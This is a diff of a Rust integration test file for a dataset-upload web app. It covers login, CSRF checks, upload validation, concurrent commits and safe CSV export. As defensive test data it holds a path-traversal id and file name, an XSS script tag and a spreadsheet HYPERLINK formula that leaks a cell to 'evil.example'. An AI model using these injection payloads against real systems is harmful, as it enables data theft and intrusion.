@@ -5,161 +5,12 @@
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
 
-use axum::Router;
-use axum::body::Body;
-use axum::http::{Request, StatusCode};
+use axum::http::StatusCode;
 use nqp::store::Store;
-use nqp::web::build_router;
-use nqp::web::state::AppState;
 
-use crate::helpers::{Response, fixture};
-
-const TOKEN: &str = "test-admin-token";
-const BOUNDARY: &str = "nqp-test-boundary-7MA4YWxkTrZu0gW";
-
-struct StoreApp {
-    router: Router,
-    state: AppState,
-    dir: tempfile::TempDir,
-}
-
-/// Every file under the data dir with its bytes (the "byte-for-byte" view of the store).
-fn snapshot(dir: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
-    fn walk(dir: &Path, out: &mut BTreeMap<PathBuf, Vec<u8>>) {
-        for entry in std::fs::read_dir(dir).unwrap() {
-            let path = entry.unwrap().path();
-            if path.is_dir() {
-                walk(&path, out);
-            } else if path.extension().is_none_or(|e| e != "lock") {
-                out.insert(path.clone(), std::fs::read(&path).unwrap());
-            }
-        }
-    }
-    let mut out = BTreeMap::new();
-    walk(dir, &mut out);
-    out
-}
-
-enum Part<'a> {
-    Field(&'a str, &'a str),
-    File(&'a str, &'a str, &'a [u8]),
-}
-
-fn multipart(parts: &[Part<'_>]) -> Vec<u8> {
-    let mut body = Vec::new();
-    for part in parts {
-        body.extend_from_slice(format!("--{BOUNDARY}\r\n").as_bytes());
-        match part {
-            Part::Field(name, value) => {
-                body.extend_from_slice(
-                    format!("Content-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
-                        .as_bytes(),
-                );
-            }
-            Part::File(name, file_name, bytes) => {
-                body.extend_from_slice(
-                    format!(
-                        "Content-Disposition: form-data; name=\"{name}\"; filename=\"{file_name}\"\r\nContent-Type: text/csv\r\n\r\n"
-                    )
-                    .as_bytes(),
-                );
-                body.extend_from_slice(bytes);
-                body.extend_from_slice(b"\r\n");
-            }
-        }
-    }
-    body.extend_from_slice(format!("--{BOUNDARY}--\r\n").as_bytes());
-    body
-}
-
-impl StoreApp {
-    fn open(dir: tempfile::TempDir, upload_limit: usize) -> StoreApp {
-        let store = Store::open(dir.path()).unwrap();
-        store.ensure_admin_token(Some(TOKEN)).unwrap();
-        let state = crate::helpers::store_state(store, upload_limit);
-        StoreApp {
-            router: build_router(state.clone()),
-            state,
-            dir,
-        }
-    }
-
-    fn new() -> StoreApp {
-        StoreApp::open(tempfile::tempdir().unwrap(), 1024 * 1024)
-    }
-
-    async fn send(&self, request: Request<Body>) -> Response {
-        crate::helpers::send(&self.router, request).await
-    }
-
-    async fn get(&self, uri: &str, cookie: Option<&str>) -> Response {
-        let mut req = Request::builder().uri(uri);
-        if let Some(c) = cookie {
-            req = req.header("cookie", c);
-        }
-        self.send(req.body(Body::empty()).unwrap()).await
-    }
-
-    async fn post_form(&self, uri: &str, cookie: Option<&str>, pairs: &[(&str, &str)]) -> Response {
-        let mut req = Request::builder()
-            .method("POST")
-            .uri(uri)
-            .header("content-type", "application/x-www-form-urlencoded");
-        if let Some(c) = cookie {
-            req = req.header("cookie", c);
-        }
-        let body = serde_urlencoded::to_string(pairs).unwrap();
-        self.send(req.body(Body::from(body)).unwrap()).await
-    }
-
-    async fn post_multipart(&self, uri: &str, cookie: Option<&str>, body: Vec<u8>) -> Response {
-        let mut req = Request::builder().method("POST").uri(uri).header(
-            "content-type",
-            format!("multipart/form-data; boundary={BOUNDARY}"),
-        );
-        if let Some(c) = cookie {
-            req = req.header("cookie", c);
-        }
-        self.send(req.body(Body::from(body)).unwrap()).await
-    }
-
-    /// Sign in; returns (cookie header value, CSRF token).
-    async fn sign_in(&self) -> (String, String) {
-        let res = self
-            .post_form("/login?lang=en", None, &[("token", TOKEN)])
-            .await;
-        assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
-        let set_cookie = res.headers["set-cookie"].to_str().unwrap().to_owned();
-        assert!(set_cookie.contains("HttpOnly") && set_cookie.contains("SameSite=Strict"));
-        let cookie = set_cookie.split(';').next().unwrap().to_owned();
-        let form = self.get("/datasets/new?lang=en", Some(&cookie)).await;
-        assert_eq!(form.status, StatusCode::OK);
-        let csrf = form.select_attrs("input[name=csrf]", "value")[0].clone();
-        (cookie, csrf)
-    }
-
-    /// Upload files into a new dataset; returns the response (303 to the preview on success).
-    async fn upload_new(
-        &self,
-        cookie: &str,
-        csrf: &str,
-        id: &str,
-        files: &[(&str, &[u8])],
-    ) -> Response {
-        let mut parts = vec![
-            Part::Field("csrf", csrf),
-            Part::Field("target", "new"),
-            Part::Field("new_id", id),
-            Part::Field("title_zh", "测试"),
-            Part::Field("title_en", "Test"),
-        ];
-        for (name, bytes) in files {
-            parts.push(Part::File("files", name, bytes));
-        }
-        self.post_multipart("/datasets/new?lang=en", Some(cookie), multipart(&parts))
-            .await
-    }
-}
+use crate::helpers::{
+    Part, Response, Session, TestApp, existing_dataset, fixture, new_dataset, xlsx,
+};
 
 fn location(res: &Response) -> String {
     res.headers["location"].to_str().unwrap().to_owned()
@@ -167,21 +18,21 @@ fn location(res: &Response) -> String {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn reading_is_public_changing_needs_a_session() {
-    let app = StoreApp::new();
-    let before = snapshot(app.dir.path());
-    let list = app.get("/datasets?lang=en", None).await;
+    let app = TestApp::with_store(1024 * 1024);
+    let before = app.stored_files();
+    let list = app.get("/datasets?lang=en").await;
     assert_eq!(list.status, StatusCode::OK);
     assert_eq!(list.count("form#login"), 1);
     assert!(list.body.contains("cn-provinces"));
     assert_eq!(
-        app.get("/datasets/new?lang=en", None).await.status,
+        app.get("/datasets/new?lang=en").await.status,
         StatusCode::UNAUTHORIZED
     );
     let anonymous = app
         .post_multipart(
             "/datasets/new",
             None,
-            multipart(&[Part::File("files", "a.csv", b"region,year,x\nA,2020,1\n")]),
+            &[Part::File("files", "a.csv", b"region,year,x\nA,2020,1\n")],
         )
         .await;
     assert_eq!(anonymous.status, StatusCode::UNAUTHORIZED);
@@ -190,27 +41,22 @@ async fn reading_is_public_changing_needs_a_session() {
         .await;
     assert_eq!(wrong.status, StatusCode::UNAUTHORIZED);
     assert!(wrong.body.contains("访问令牌无效"));
-    assert_eq!(snapshot(app.dir.path()), before, "nothing stored");
+    assert_eq!(app.stored_files(), before, "nothing stored");
 }
 
 #[tokio::test(flavor = "multi_thread")]
 async fn an_nbs_export_is_previewed_mapped_and_committed_as_a_new_version() {
-    let app = StoreApp::new();
-    let (cookie, csrf) = app.sign_in().await;
+    let app = TestApp::with_store(1024 * 1024);
+    let session = app.sign_in().await;
     let export = std::fs::read(fixture("csv/nbs_export_gbk_crlf.csv")).unwrap();
-    let body = multipart(&[
-        Part::Field("csrf", &csrf),
-        Part::Field("target", "existing"),
-        Part::Field("existing_id", "cn-provinces-recent"),
-        Part::File("files", "分省年度数据.csv", &export),
-    ]);
     let res = app
-        .post_multipart("/datasets/new?lang=en", Some(&cookie), body)
+        .upload(
+            &session,
+            &existing_dataset("cn-provinces-recent", &[("分省年度数据.csv", &export)]),
+        )
         .await;
-    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
     let preview_url = location(&res);
-    let preview = app.get(&preview_url, Some(&cookie)).await;
-    assert_eq!(preview.status, StatusCode::OK);
+    let preview = app.preview(&session, &res).await;
     let file_row = preview.select_texts("table#files-table tbody td");
     assert_eq!(file_row[0], "gb18030");
     assert_eq!(file_row[1], "nbs");
@@ -227,9 +73,9 @@ async fn an_nbs_export_is_previewed_mapped_and_committed_as_a_new_version() {
     let res = app
         .post_form(
             &commit_url,
-            Some(&cookie),
+            Some(&session),
             &[
-                ("csrf", &csrf),
+                ("csrf", &session.csrf),
                 ("map.0.include", "on"),
                 ("map.0.id", "rd_staff"),
                 ("map.0.name_en", "R&D staff"),
@@ -245,12 +91,12 @@ async fn an_nbs_export_is_previewed_mapped_and_committed_as_a_new_version() {
         view.contains("dataset=cn-provinces-recent") && view.contains("v=2"),
         "{view}"
     );
-    let page = app.get(&view, None).await;
+    let page = app.get(&view).await;
     assert_eq!(page.status, StatusCode::OK);
     assert!(page.select_texts("footer").join(" ").contains("v2"));
     // The new indicator is in version 2's framework; version 1 is untouched and still served.
     let framework = app
-        .get("/datasets/cn-provinces-recent/2/framework.toml", None)
+        .get("/datasets/cn-provinces-recent/2/framework.toml")
         .await;
     assert!(framework.body.contains("id = \"rd_staff\""));
     assert!(
@@ -259,23 +105,23 @@ async fn an_nbs_export_is_previewed_mapped_and_committed_as_a_new_version() {
             .contains("aliases = [\"研究与试验发展(R&D)人员(人口抽样调查)\"]")
     );
     let v1 = app
-        .get("/datasets/cn-provinces-recent/1/framework.toml", None)
+        .get("/datasets/cn-provinces-recent/1/framework.toml")
         .await;
     assert!(!v1.body.contains("rd_staff"));
     assert_eq!(
-        app.get("/?lang=en&dataset=cn-provinces-recent&v=1", None)
+        app.get("/?lang=en&dataset=cn-provinces-recent&v=1")
             .await
             .status,
         StatusCode::OK
     );
-    let list = app.get("/datasets?lang=en", None).await;
+    let list = app.get("/datasets?lang=en").await;
     assert_eq!(
         list.count("#dataset-cn-provinces-recent table.versions tbody tr"),
         2
     );
     // The staged upload is gone once committed.
     assert_eq!(
-        app.get(&preview_url, Some(&cookie)).await.status,
+        app.get_as(&preview_url, Some(&session)).await.status,
         StatusCode::NOT_FOUND
     );
 }
@@ -284,9 +130,9 @@ async fn an_nbs_export_is_previewed_mapped_and_committed_as_a_new_version() {
 /// and the store is byte-for-byte what it was.
 #[tokio::test(flavor = "multi_thread")]
 async fn bad_uploads_change_nothing() {
-    let app = StoreApp::new();
-    let (cookie, csrf) = app.sign_in().await;
-    let before = snapshot(app.dir.path());
+    let app = TestApp::with_store(1024 * 1024);
+    let session = app.sign_in().await;
+    let before = app.stored_files();
     let mut checked = 0;
     let mut entries: Vec<_> = std::fs::read_dir(fixture("bad"))
         .unwrap()
@@ -300,7 +146,7 @@ async fn bad_uploads_change_nothing() {
         }
         let bytes = std::fs::read(&path).unwrap();
         let res = app
-            .upload_new(&cookie, &csrf, "bad-upload", &[(&name, &bytes)])
+            .upload(&session, &new_dataset("bad-upload", &[(&name, &bytes)]))
             .await;
         // Some "bad" inputs are recoverable (blank lines, missing values): those validate and
         // are only staged — a preview, never a stored version.
@@ -315,110 +161,102 @@ async fn bad_uploads_change_nothing() {
             );
             checked += 1;
         }
-        assert_eq!(snapshot(app.dir.path()), before, "{name} changed the store");
+        assert_eq!(app.stored_files(), before, "{name} changed the store");
     }
     assert!(checked >= 25, "only {checked} bad files rejected");
 
     // More ways to be wrong.
     let good = b"region,year,indicator,value\nCN-BJ,2020,x,1\n".to_vec();
+    let mut forged = vec![Part::Field("csrf", "forged")];
+    forged.extend(new_dataset("a", &[("a.csv", &good)]));
     let cases: Vec<(&str, Response, StatusCode)> = vec![
         (
             "missing CSRF",
             app.post_multipart(
                 "/datasets/new?lang=en",
-                Some(&cookie),
-                multipart(&[
-                    Part::Field("target", "new"),
-                    Part::Field("new_id", "a"),
-                    Part::File("files", "a.csv", &good),
-                ]),
+                Some(&session),
+                &new_dataset("a", &[("a.csv", &good)]),
             )
             .await,
             StatusCode::FORBIDDEN,
         ),
         (
             "wrong CSRF",
-            app.post_multipart(
-                "/datasets/new?lang=en",
-                Some(&cookie),
-                multipart(&[
-                    Part::Field("csrf", "forged"),
-                    Part::Field("target", "new"),
-                    Part::Field("new_id", "a"),
-                    Part::File("files", "a.csv", &good),
-                ]),
-            )
-            .await,
+            app.post_multipart("/datasets/new?lang=en", Some(&session), &forged)
+                .await,
             StatusCode::FORBIDDEN,
         ),
         (
             "no file",
-            app.upload_new(&cookie, &csrf, "a", &[]).await,
+            app.upload(&session, &new_dataset("a", &[])).await,
             StatusCode::UNPROCESSABLE_ENTITY,
         ),
         (
             "bad dataset id",
-            app.upload_new(&cookie, &csrf, "../etc", &[("a.csv", &good)])
+            app.upload(&session, &new_dataset("../etc", &[("a.csv", &good)]))
                 .await,
             StatusCode::UNPROCESSABLE_ENTITY,
         ),
         (
             "id taken",
-            app.upload_new(&cookie, &csrf, "cn-provinces", &[("a.csv", &good)])
+            app.upload(&session, &new_dataset("cn-provinces", &[("a.csv", &good)]))
                 .await,
             StatusCode::CONFLICT,
         ),
         (
             "huge",
-            app.upload_new(
-                &cookie,
-                &csrf,
-                "huge",
-                &[("huge.csv", &vec![b'1'; 2 * 1024 * 1024])],
+            app.upload(
+                &session,
+                &new_dataset("huge", &[("huge.csv", &vec![b'1'; 2 * 1024 * 1024])]),
             )
             .await,
             StatusCode::PAYLOAD_TOO_LARGE,
         ),
         (
             "same indicator twice across files",
-            app.upload_new(&cookie, &csrf, "dup", &[("a.csv", &good), ("b.csv", &good)])
-                .await,
+            app.upload(
+                &session,
+                &new_dataset("dup", &[("a.csv", &good), ("b.csv", &good)]),
+            )
+            .await,
             StatusCode::UNPROCESSABLE_ENTITY,
         ),
         (
             "commit without session",
-            app.post_form("/datasets/uploads/x/commit", None, &[("csrf", &csrf)])
-                .await,
+            app.post_form(
+                "/datasets/uploads/x/commit",
+                None,
+                &[("csrf", &session.csrf)],
+            )
+            .await,
             StatusCode::UNAUTHORIZED,
         ),
         (
             "delete without CSRF",
-            app.post_form("/datasets/cn-provinces/delete", Some(&cookie), &[])
+            app.post_form("/datasets/cn-provinces/delete", Some(&session), &[])
                 .await,
             StatusCode::FORBIDDEN,
         ),
     ];
     for (what, res, status) in cases {
         assert_eq!(res.status, status, "{what}: {}", res.body);
-        assert_eq!(snapshot(app.dir.path()), before, "{what} changed the store");
+        assert_eq!(app.stored_files(), before, "{what} changed the store");
     }
 }
 
 #[tokio::test(flavor = "multi_thread")]
 async fn names_are_escaped_and_paths_ignored() {
-    let app = StoreApp::new();
-    let (cookie, csrf) = app.sign_in().await;
+    let app = TestApp::with_store(1024 * 1024);
+    let session = app.sign_in().await;
     let csv = "region,year,indicator,value\nCN-BJ,2020,<script>alert(1)</script>,1\nCN-BJ,2021,<script>alert(1)</script>,2\n";
     let res = app
-        .upload_new(
-            &cookie,
-            &csrf,
-            "xss",
-            &[("../../../tmp/evil<b>.csv", csv.as_bytes())],
+        .upload(
+            &session,
+            &new_dataset("xss", &[("../../../tmp/evil<b>.csv", csv.as_bytes())]),
         )
         .await;
     assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
-    let preview = app.get(&location(&res), Some(&cookie)).await;
+    let preview = app.get_as(&location(&res), Some(&session)).await;
     assert_eq!(preview.count("script:not([src])"), 0);
     assert!(preview.body.contains("&lt;script&gt;") || preview.body.contains("&#60;script&#62;"));
     let names = preview.select_texts("table#files-table tbody th");
@@ -432,81 +270,63 @@ async fn names_are_escaped_and_paths_ignored() {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn download_then_upload_gives_the_same_scores_and_survives_a_restart() {
-    let app = StoreApp::new();
-    let (cookie, csrf) = app.sign_in().await;
-    let panel = app.get("/datasets/cn-provinces/1/panel.csv", None).await;
+    let app = TestApp::with_store(1024 * 1024);
+    let session = app.sign_in().await;
+    let panel = app.get("/datasets/cn-provinces/1/panel.csv").await;
     assert_eq!(panel.status, StatusCode::OK);
-    let framework = app
-        .get("/datasets/cn-provinces/1/framework.toml", None)
-        .await;
-    let body = multipart(&[
-        Part::Field("csrf", &csrf),
-        Part::Field("target", "new"),
-        Part::Field("new_id", "round-trip"),
-        Part::Field("title_en", "Round trip"),
-        Part::File("files", "panel.csv", panel.body.as_bytes()),
-        Part::File("framework", "framework.toml", framework.body.as_bytes()),
-    ]);
-    let res = app
-        .post_multipart("/datasets/new?lang=en", Some(&cookie), body)
-        .await;
-    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
-    let preview = app.get(&location(&res), Some(&cookie)).await;
-    let commit_url = preview.select_attrs("form#commit", "action")[0].clone();
-    let res = app
-        .post_form(&commit_url, Some(&cookie), &[("csrf", &csrf)])
-        .await;
+    let framework = app.get("/datasets/cn-provinces/1/framework.toml").await;
+    let mut parts = new_dataset("round-trip", &[("panel.csv", panel.body.as_bytes())]);
+    parts.push(Part::File(
+        "framework",
+        "framework.toml",
+        framework.body.as_bytes(),
+    ));
+    let res = app.upload(&session, &parts).await;
+    let preview = app.preview(&session, &res).await;
+    let res = app.commit(&session, &preview, &[]).await;
     assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
 
     let scores = |page: &Response| page.select_texts("table#rankings tbody tr td:nth-of-type(4)");
     let original = app
-        .get("/?lang=en&dataset=cn-provinces&v=1&year=2019", None)
+        .get("/?lang=en&dataset=cn-provinces&v=1&year=2019")
         .await;
-    let copy = app
-        .get("/?lang=en&dataset=round-trip&year=2019", None)
-        .await;
+    let copy = app.get("/?lang=en&dataset=round-trip&year=2019").await;
     assert_eq!(copy.status, StatusCode::OK);
     assert_eq!(scores(&original), scores(&copy));
     assert_eq!(scores(&copy).len(), 31);
 
     // Restart: a new state over the same data dir serves the same datasets.
-    let dir = app.dir;
-    drop(app.router);
-    drop(app.state);
-    let again = StoreApp::open(dir, 1024 * 1024);
-    let copy_again = again
-        .get("/?lang=en&dataset=round-trip&year=2019", None)
-        .await;
+    let again = TestApp::reopen(app.into_store_dir(), 1024 * 1024);
+    let copy_again = again.get("/?lang=en&dataset=round-trip&year=2019").await;
     assert_eq!(scores(&copy_again), scores(&copy));
 }
 
 #[tokio::test(flavor = "multi_thread")]
 async fn concurrent_uploads_both_commit() {
-    let app = StoreApp::new();
-    let (cookie, csrf) = app.sign_in().await;
+    let app = TestApp::with_store(1024 * 1024);
+    let session = app.sign_in().await;
     let commit = |id: &'static str, n: u32| {
-        let (cookie, csrf, csv) = (cookie.clone(), csrf.clone(), lto_csv(2020..2023, n));
+        let (session, csv) = (session.clone(), lto_csv(2020..2023, n));
         let app = &app;
         async move {
             let res = app
-                .upload_new(&cookie, &csrf, id, &[("p.csv", csv.as_bytes())])
+                .upload(&session, &new_dataset(id, &[("p.csv", csv.as_bytes())]))
                 .await;
-            assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
-            let url = app.commit_url(&cookie, &res).await;
-            let form = lto_mapping(&csrf);
+            let preview = app.preview(&session, &res).await;
+            let form = lto_mapping();
             let pairs: Vec<(&str, &str)> =
                 form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
-            app.post_form(&url, Some(&cookie), &pairs).await
+            app.commit(&session, &preview, &pairs).await
         }
     };
     let (a, b) = tokio::join!(commit("one", 1), commit("two", 50));
     assert_eq!(a.status, StatusCode::SEE_OTHER, "{}", a.body);
     assert_eq!(b.status, StatusCode::SEE_OTHER, "{}", b.body);
-    let list = app.get("/datasets?lang=en", None).await;
+    let list = app.get("/datasets?lang=en").await;
     assert_eq!(list.count("#dataset-one table.versions tbody tr"), 1);
     assert_eq!(list.count("#dataset-two table.versions tbody tr"), 1);
     // The rankings page offers every dataset; choosing one shows its latest version.
-    let home = app.get("/?lang=en", None).await;
+    let home = app.get("/?lang=en").await;
     let options = home.select_attrs("#dataset-select option", "value");
     assert_eq!(
         options,
@@ -516,7 +336,7 @@ async fn concurrent_uploads_both_commit() {
         home.count("form.controls input[type=hidden][name=dataset]"),
         0
     );
-    let two = app.get("/?lang=en&dataset=two", None).await;
+    let two = app.get("/?lang=en&dataset=two").await;
     assert_eq!(two.count("table#rankings tbody tr"), 3);
     assert_eq!(
         two.select_attrs("#dataset-select option[selected]", "value"),
@@ -539,8 +359,8 @@ fn lto_csv(years: std::ops::Range<i32>, shift: u32) -> String {
 }
 
 /// The form fields that score the new indicators `l`, `t`, `o` (in the preview's name order).
-fn lto_mapping(csrf: &str) -> Vec<(String, String)> {
-    let mut form = vec![("csrf".to_owned(), csrf.to_owned())];
+fn lto_mapping() -> Vec<(String, String)> {
+    let mut form = Vec::new();
     for (i, (ind, dim)) in [("l", "laborers"), ("o", "objects"), ("t", "tools")]
         .iter()
         .enumerate()
@@ -553,49 +373,45 @@ fn lto_mapping(csrf: &str) -> Vec<(String, String)> {
     form
 }
 
-impl StoreApp {
-    /// Upload files into the existing dataset `id`; the commit URL of its preview.
-    async fn stage_existing(&self, cookie: &str, csrf: &str, id: &str, csv: &str) -> String {
-        let body = multipart(&[
-            Part::Field("csrf", csrf),
-            Part::Field("target", "existing"),
-            Part::Field("existing_id", id),
-            Part::File("files", "more.csv", csv.as_bytes()),
-        ]);
-        let res = self
-            .post_multipart("/datasets/new?lang=en", Some(cookie), body)
-            .await;
-        assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
-        self.commit_url(cookie, &res).await
-    }
+/// Upload `csv` into the stored dataset `id`; the commit URL of its preview.
+async fn stage_existing(app: &TestApp, session: &Session, id: &str, csv: &str) -> String {
+    let res = app
+        .upload(
+            session,
+            &existing_dataset(id, &[("more.csv", csv.as_bytes())]),
+        )
+        .await;
+    commit_url(app, session, &res).await
+}
 
-    /// The commit URL of the preview a successful upload redirected to.
-    async fn commit_url(&self, cookie: &str, uploaded: &Response) -> String {
-        let preview = self.get(&location(uploaded), Some(cookie)).await;
-        preview.select_attrs("form#commit", "action")[0].clone()
-    }
+/// The commit URL of the preview a successful upload redirected to.
+async fn commit_url(app: &TestApp, session: &Session, uploaded: &Response) -> String {
+    let preview = app.preview(session, uploaded).await;
+    preview.select_attrs("form#commit", "action")[0].clone()
+}
 
-    /// Post both commit forms at the same time: exactly one 303 and one 409. Returns the 409
-    /// page and which of the two won.
-    async fn commit_race(
-        &self,
-        cookie: &str,
-        urls: [String; 2],
-        form: &[(String, String)],
-    ) -> (Response, usize) {
-        let pairs: Vec<(&str, &str)> = form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
-        let (a, b) = tokio::join!(
-            self.post_form(&urls[0], Some(cookie), &pairs),
-            self.post_form(&urls[1], Some(cookie), &pairs)
-        );
-        let mut statuses = [a.status.as_u16(), b.status.as_u16()];
-        statuses.sort();
-        assert_eq!(statuses, [303, 409], "{} / {}", a.body, b.body);
-        if a.status == StatusCode::SEE_OTHER {
-            (b, 0)
-        } else {
-            (a, 1)
-        }
+/// Post both commit forms (with `fields`) at the same time: exactly one 303 and one 409.
+/// Returns the 409 page and which of the two won.
+async fn commit_race(
+    app: &TestApp,
+    session: &Session,
+    urls: [String; 2],
+    fields: &[(String, String)],
+) -> (Response, usize) {
+    let pairs: Vec<(&str, &str)> = std::iter::once(("csrf", session.csrf.as_str()))
+        .chain(fields.iter().map(|(k, v)| (k.as_str(), v.as_str())))
+        .collect();
+    let (a, b) = tokio::join!(
+        app.post_form(&urls[0], Some(session), &pairs),
+        app.post_form(&urls[1], Some(session), &pairs)
+    );
+    let mut statuses = [a.status.as_u16(), b.status.as_u16()];
+    statuses.sort();
+    assert_eq!(statuses, [303, 409], "{} / {}", a.body, b.body);
+    if a.status == StatusCode::SEE_OTHER {
+        (b, 0)
+    } else {
+        (a, 1)
     }
 }
 
@@ -604,44 +420,42 @@ impl StoreApp {
 /// again it is stored on top, so nothing is lost.
 #[tokio::test(flavor = "multi_thread")]
 async fn concurrent_commits_store_one_and_ask_to_review_the_other() {
-    let app = StoreApp::new();
-    let (cookie, csrf) = app.sign_in().await;
+    let app = TestApp::with_store(1024 * 1024);
+    let session = app.sign_in().await;
 
     // A new dataset reviewed twice while its id was free; committed from Chinese pages.
     let csvs = [lto_csv(2020..2023, 1), lto_csv(2020..2023, 50)];
     let mut urls = Vec::new();
     for csv in &csvs {
         let res = app
-            .upload_new(&cookie, &csrf, "twin", &[("p.csv", csv.as_bytes())])
+            .upload(&session, &new_dataset("twin", &[("p.csv", csv.as_bytes())]))
             .await;
         assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
         urls.push(
-            app.commit_url(&cookie, &res)
+            commit_url(&app, &session, &res)
                 .await
                 .replace("lang=en", "lang=zh"),
         );
     }
     let urls: [String; 2] = urls.try_into().unwrap();
     assert!(urls[0].contains("lang=zh"), "{}", urls[0]);
-    let (refused, winner) = app.commit_race(&cookie, urls, &lto_mapping(&csrf)).await;
+    let (refused, winner) = commit_race(&app, &session, urls, &lto_mapping()).await;
     assert!(
         refused.body.contains("该数据集编号在此期间已被占用"),
         "{}",
         refused.body
     );
-    let v1 = app.get("/datasets/twin/1/panel.csv", None).await.body;
+    let v1 = app.get("/datasets/twin/1/panel.csv").await.body;
     let first_row = format!("CN-BJ,2020,l,{}", [1, 50][winner]);
     assert!(v1.contains(&first_row), "{v1}");
 
     // Two new years reviewed against version 1; committed from English pages.
     let years = [lto_csv(2023..2024, 3), lto_csv(2024..2025, 9)];
     let urls = [
-        app.stage_existing(&cookie, &csrf, "twin", &years[0]).await,
-        app.stage_existing(&cookie, &csrf, "twin", &years[1]).await,
+        stage_existing(&app, &session, "twin", &years[0]).await,
+        stage_existing(&app, &session, "twin", &years[1]).await,
     ];
-    let (refused, winner) = app
-        .commit_race(&cookie, urls.clone(), &[("csrf".into(), csrf.clone())])
-        .await;
+    let (refused, winner) = commit_race(&app, &session, urls.clone(), &[]).await;
     assert!(
         refused.body.contains("changed meanwhile")
             && refused.body.contains("review the upload again"),
@@ -650,19 +464,23 @@ async fn concurrent_commits_store_one_and_ask_to_review_the_other() {
     );
     // Its preview is stale, so the refused upload is not kept for a retry.
     let retry = app
-        .post_form(&urls[1 - winner], Some(&cookie), &[("csrf", &csrf)])
+        .post_form(
+            &urls[1 - winner],
+            Some(&session),
+            &[("csrf", &session.csrf)],
+        )
         .await;
     assert_eq!(retry.status, StatusCode::NOT_FOUND, "{}", retry.body);
-    let list = app.get("/datasets?lang=en", None).await;
+    let list = app.get("/datasets?lang=en").await;
     assert_eq!(list.count("#dataset-twin table.versions tbody tr"), 2);
 
     // Reviewed again, the refused upload becomes version 3, on top of both earlier commits.
-    let url = app
-        .stage_existing(&cookie, &csrf, "twin", &years[1 - winner])
+    let url = stage_existing(&app, &session, "twin", &years[1 - winner]).await;
+    let res = app
+        .post_form(&url, Some(&session), &[("csrf", &session.csrf)])
         .await;
-    let res = app.post_form(&url, Some(&cookie), &[("csrf", &csrf)]).await;
     assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
-    let v3 = app.get("/datasets/twin/3/panel.csv", None).await.body;
+    let v3 = app.get("/datasets/twin/3/panel.csv").await.body;
     for year in ["2020", "2023", "2024"] {
         assert!(v3.contains(&format!("CN-GD,{year},o,")), "{year}: {v3}");
     }
@@ -675,7 +493,7 @@ async fn concurrent_commits_store_one_and_ask_to_review_the_other() {
 /// numbers (negative ones too) stay numbers.
 #[tokio::test(flavor = "multi_thread")]
 async fn the_raw_panel_csv_neutralises_formulas() {
-    let app = StoreApp::new();
+    let app = TestApp::with_store(1024 * 1024);
     let evil = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"click\")";
     let frame = polars::prelude::df!(
         "region" => ["CN-BJ", "@SUM(A1:A9)", "CN-SH"],
@@ -686,7 +504,7 @@ async fn the_raw_panel_csv_neutralises_formulas() {
     .unwrap();
     let panel = nqp::types::Panel::new(frame).unwrap();
     let id = nqp::types::DatasetId::new("evil").unwrap();
-    Store::open(app.dir.path())
+    Store::open(app.store_dir())
         .unwrap()
         .put_version(
             nqp::store::NewVersion {
@@ -703,7 +521,7 @@ async fn the_raw_panel_csv_neutralises_formulas() {
             "test",
         )
         .unwrap();
-    let res = app.get("/datasets/evil/1/panel.csv", None).await;
+    let res = app.get("/datasets/evil/1/panel.csv").await;
     assert_eq!(res.status, StatusCode::OK, "{}", res.body);
     assert_eq!(res.headers["content-type"], "text/csv; charset=utf-8");
     let bytes = res.body.into_bytes();
@@ -734,25 +552,24 @@ async fn the_raw_panel_csv_neutralises_formulas() {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn delete_hides_a_dataset_but_keeps_its_files() {
-    let app = StoreApp::new();
-    let (cookie, csrf) = app.sign_in().await;
+    let app = TestApp::with_store(1024 * 1024);
+    let session = app.sign_in().await;
     let res = app
         .post_form(
             "/datasets/cn-provinces/delete?lang=en",
-            Some(&cookie),
-            &[("csrf", &csrf)],
+            Some(&session),
+            &[("csrf", &session.csrf)],
         )
         .await;
     assert_eq!(res.status, StatusCode::SEE_OTHER);
-    let list = app.get("/datasets?lang=en", None).await;
+    let list = app.get("/datasets?lang=en").await;
     assert_eq!(list.count("#dataset-cn-provinces"), 0);
     assert_eq!(
-        app.get("/?dataset=cn-provinces&lang=en", None).await.status,
+        app.get("/?dataset=cn-provinces&lang=en").await.status,
         StatusCode::NOT_FOUND
     );
     assert!(
-        app.dir
-            .path()
+        app.store_dir()
             .join("datasets/cn-provinces/1.parquet")
             .exists()
     );
@@ -769,9 +586,9 @@ fn shared_data() -> PathBuf {
 #[tokio::test(flavor = "multi_thread")]
 #[ignore = "needs ../shared/data"]
 async fn every_real_file_uploads_through_http() {
-    let app = StoreApp::open(tempfile::tempdir().unwrap(), 64 * 1024 * 1024);
-    let (cookie, csrf) = app.sign_in().await;
-    let before = snapshot(app.dir.path());
+    let app = TestApp::with_store(64 * 1024 * 1024);
+    let session = app.sign_in().await;
+    let before = app.stored_files();
     let not_tables = [
         "openclimate_ceads_provinces_DataSource.csv",
         "openclimate_ceads_provinces_DataSourceTag.csv",
@@ -804,12 +621,12 @@ async fn every_real_file_uploads_through_http() {
         let name = path.file_name().unwrap().to_string_lossy().into_owned();
         let bytes = std::fs::read(path).unwrap();
         let res = app
-            .upload_new(&cookie, &csrf, "real-file", &[(&name, &bytes)])
+            .upload(&session, &new_dataset("real-file", &[(&name, &bytes)]))
             .await;
         let is_table = name.ends_with(".csv") && !not_tables.contains(&name.as_str());
         if is_table {
             assert_eq!(res.status, StatusCode::SEE_OTHER, "{name}: {}", res.body);
-            let preview = app.get(&location(&res), Some(&cookie)).await;
+            let preview = app.get_as(&location(&res), Some(&session)).await;
